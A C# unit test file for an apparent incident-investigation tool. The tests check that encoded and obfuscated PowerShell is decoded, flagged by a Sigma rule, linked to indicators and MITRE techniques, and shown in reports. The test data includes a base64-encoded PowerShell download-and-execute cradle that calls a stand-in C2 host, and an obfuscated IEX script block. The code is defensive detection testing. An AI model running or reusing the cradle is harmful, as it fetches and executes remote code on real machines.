using System.Text;
using Stemma.Incidents;
using Stemma.Reports;
using Stemma.Sigma;
using static Stemma.Tests.Support.Investigations;

namespace Stemma.Tests.Incidents;

/// <summary>What an incident tells of commands and scripts that hide something.</summary>
public class DecodedIncidentTests
{
    private const string Script = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.test/a.ps1')";
    private static readonly string Hidden = $"powershell -enc {Convert.ToBase64String(Encoding.Unicode.GetBytes(Script))}";
    private static readonly SigmaRule Download = OnCommand("DownloadString", "high", "attack.t1105");
    private static readonly Incident Told = Assert.Single(Of([Download], [Started()]).Incidents);

    [Fact]
    public void A_detection_in_a_layer_makes_an_incident_of_its_process()
    {
        IncidentDetection detection = Assert.Single(Told.Detections);
        Assert.Equal((1, "-EncodedCommand", 10), (detection.Layer, detection.LayerStep, detection.Process?.Pid));
        Assert.Equal(Script, Assert.Single(detection.Matched).Value);
    }

    [Fact]
    public void A_command_is_shown_with_its_layers_and_what_they_do()
    {
        IncidentDecoded decoded = Assert.Single(Told.Decoded);
        Assert.Equal((10, false, Hidden, Script), (decoded.Process?.Pid, decoded.IsScript, decoded.Artifact.Layers[0].Text, decoded.Artifact.Final.Text));
        Assert.Contains(decoded.Telling, behaviour => behaviour.Name == "Runs text that it downloads");
    }

    [Fact]
    public void What_it_hides_joins_indicators_and_techniques()
    {
        Assert.Contains(Told.Indicators, one => one.Kind == IndicatorKind.Url && one.Value == "http://c2.example.test/a.ps1" && one.Why.Contains("hides", StringComparison.Ordinal));
        Assert.Contains(Told.Indicators, one => one.Kind == IndicatorKind.Domain && one.Value == "c2.example.test");
        Assert.Empty(new[] { "T1105", "T1059.001", "T1027.010" }.Except(Told.Techniques));
    }

    [Fact]
    public void A_script_that_its_process_ran_is_decoded_too()
    {
        Incident told = Assert.Single(Of([OnCommand("evil")],
        [
            Start(1, 10, @"C:\w\powershell.exe", 2, @"C:\Windows\explorer.exe", "powershell evil"),
            Event(2, "Microsoft-Windows-PowerShell/Operational", 4104, """ "ExecutionProcessID":"10","ProcessId":"10","ScriptBlockId":"b","MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"&('i'+'ex') ('Down'+'loadString')" """),
        ]).Incidents);
        Assert.True(Assert.Single(told.Decoded).IsScript);
    }

    [Fact]
    public void An_incident_that_hides_nothing_has_nothing_decoded() =>
        Assert.Empty(Assert.Single(Of([OnCommand("evil")], [Start(1, 10, @"C:\x\a.exe", 2, @"C:\Windows\explorer.exe", "a evil")]).Incidents).Decoded);

    [Fact]
    public void What_is_beyond_a_limit_is_let_go_and_counted()
    {
        Investigation investigation = Of([Download], [Started(), Start(2, 11, @"C:\w\powershell.exe", 10, @"C:\w\powershell.exe", Hidden + " -NoExit")], limits: new InvestigationLimits { Decoded = 1 });
        Incident told = Assert.Single(investigation.Incidents);
        Assert.Equal((1, 1), (told.Decoded.Count, told.LetGo));
    }

    [Fact]
    public void Every_report_shows_it()
    {
        Investigation investigation = Of([Download], [Started()]);
        ReportSource source = new([], 1, 1, 0, "1");
        string json = Written(output => InvestigationJson.Write(investigation, output));
        Assert.Contains("\"decoded\":[{\"what\":\"command_line\"", json, StringComparison.Ordinal);
        Assert.Contains("\"layer\":1,\"layer_step\":\"-EncodedCommand\"", json, StringComparison.Ordinal);
        string html = Written(output => HtmlReport.Write(investigation, source, output));
        Assert.Contains("<h3>Decoded</h3>", html, StringComparison.Ordinal);
        Assert.Contains("<pre>IEX (New-Object Net.WebClient)", html, StringComparison.Ordinal);
        Assert.Contains("### Decoded", Written(output => MarkdownReport.Write(investigation, source, output)), StringComparison.Ordinal);
    }

    private static string Started() => Start(1, 10, @"C:\w\powershell.exe", 2, @"C:\Windows\explorer.exe", Hidden);

    private static string Written(Action<Stream> write)
    {
        using MemoryStream output = new();
        write(output);
        return Encoding.UTF8.GetString(output.ToArray());
    }
}
